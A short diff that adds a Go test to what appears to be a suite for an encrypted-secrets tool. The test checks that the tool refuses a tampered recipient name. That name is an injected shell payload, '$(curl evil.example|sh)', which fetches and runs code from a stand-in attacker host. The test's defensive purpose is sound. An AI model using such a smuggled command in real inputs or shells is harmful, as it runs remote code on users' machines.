@@ -92,6 +92,14 @@ func TestRecipientAddedToSource(t *testing.T) {
 	}
 }
 
+// TestRecipientIsACommand has a recipient whose name a shell would run, if the flag that confirms him were pasted.
+func TestRecipientIsACommand(t *testing.T) {
+	w := newWorkshop(t)
+	first := w.one(outputSpec)
+	w.tamper("database.enc.yaml", "$(curl evil.example|sh)")
+	w.refuses(outputSpec, []string{first}, "confirm it with --accept-recipients='$(curl evil.example|sh)'")
+}
+
 // TestRecipientAddedToSourceAndOutput has him add himself to the last output as well, so that no list differs.
 func TestRecipientAddedToSourceAndOutput(t *testing.T) {
 	w := newWorkshop(t)
